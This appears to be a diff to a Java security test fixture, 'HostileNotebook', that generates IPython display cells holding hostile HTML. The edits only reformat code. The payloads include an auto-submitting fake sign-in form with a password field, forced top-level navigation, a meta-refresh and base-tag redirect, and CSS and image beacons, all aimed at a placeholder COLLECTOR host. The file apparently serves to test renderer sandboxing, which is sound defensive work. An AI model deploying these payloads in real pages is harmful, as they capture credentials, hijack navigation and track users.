@@ -53,7 +53,9 @@ final class HostileNotebook {
         display(
             "text/html",
             "<form id=f action='COLLECTOR/form' method=post target=_top><input name=password value=x><button>Sign in to Millrace</button></form><script>document.getElementById('f').submit()</script><a id=a href='COLLECTOR/link' target=_top>More</a><script>document.getElementById('a').click();top.location='COLLECTOR/top'</script>"),
-        display("text/html", "<meta http-equiv=refresh content='0;url=COLLECTOR/refresh'><base href='COLLECTOR/'>"),
+        display(
+            "text/html",
+            "<meta http-equiv=refresh content='0;url=COLLECTOR/refresh'><base href='COLLECTOR/'>"),
         display(
             "text/html",
             "<style>body{background:url(COLLECTOR/style.png)}@import 'COLLECTOR/import.css';</style><link rel=stylesheet href='COLLECTOR/link.css'><img src='COLLECTOR/beacon.png'>"),
@@ -71,6 +73,7 @@ final class HostileNotebook {
 
   private static String display(String mime, String payload) {
     String literal = JsonMapper.shared().writeValueAsString(payload);
-    return "from IPython.display import display\ndisplay({'%s': %s}, raw=True)".formatted(mime, literal);
+    return "from IPython.display import display\ndisplay({'%s': %s}, raw=True)"
+        .formatted(mime, literal);
   }
 }
